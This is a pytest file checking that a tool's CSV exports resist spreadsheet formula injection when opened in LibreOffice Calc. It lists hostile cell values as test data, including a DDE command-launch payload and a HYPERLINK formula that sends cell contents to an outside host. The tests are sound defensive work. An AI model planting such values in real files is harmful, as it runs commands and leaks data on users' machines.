"""What is saved as CSV, in a real spreadsheet program that would run what it takes for a formula."""

import re
import shutil
import subprocess
import xml.etree.ElementTree as xml

import pytest
from conftest import records

TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
FORMULA = "{%s}formula" % TABLE
#: Quotes, UTF-8, the first line, no formats, any language, quoted cells as what they look like, numbers and dates found, the first
#: sheet, and formulas evaluated: as dangerous as it can be told to be.
READING = "CSV:%s,34,76,1,,0,false,true,true,false,false,0,true"
#: Where cells are parted: at commas, as the file means it; at semicolons, as where the comma is in numbers; at tabs; at all of them.
PARTED = ["44", "59", "9", "44/59/9"]
HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", " =1+1", "a;=1+1", "a\t=1+1", '"=1+1"', 'a","=1+1', "＝1+1", "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://example.org/?"&A1;"x")',
]

soffice = shutil.which("soffice")
needs_office = pytest.mark.skipif(soffice is None, reason="LibreOffice Calc is not installed")


def opened(path, parted="44"):
    """The texts of the cells as the program has them, without white space, and what it took for formulas."""
    folder = path.parent / "opened"
    subprocess.run(
        [soffice, "-env:UserInstallation=" + (path.parent / "profile").as_uri(), "--headless", "--infilter=" + READING % parted,
         "--convert-to", "fods", "--outdir", str(folder), str(path)],
        check=True, capture_output=True, timeout=300,
    )
    document = xml.parse(folder / (path.stem + ".fods"))
    cells = list(document.iter("{%s}table-cell" % TABLE))
    return {plain("".join(cell.itertext())) for cell in cells}, [cell.get(FORMULA) for cell in cells if cell.get(FORMULA)]


def plain(text):
    """Without white space, which the program writes as elements, and without the apostrophes that keep a cell from being run."""
    return re.sub(r"[\s']", "", text)


@needs_office
def test_no_cell_of_a_table_is_a_formula(bobbin, tmp_path):
    bobbin.told(*[(name, records(name, prefix=name)) for name in HOSTILE])
    for table in ("clusters", "task_groups"):
        path = tmp_path / (table + ".csv")
        bobbin.run("table", table, "-o", path)
        for parted in PARTED:
            assert opened(path, parted)[1] == [], (table, parted)
    # They are there all the same.
    assert {plain(name) for name in HOSTILE} <= opened(tmp_path / "clusters.csv")[0]


@needs_office
def test_the_program_would_run_a_formula(tmp_path):
    path = tmp_path / "dangerous.csv"
    path.write_text("name\n=1+1\na;=1+1\nb\t=1+1\n")
    assert [len(opened(path, parted)[1]) for parted in PARTED] == [1, 2, 2, 3]
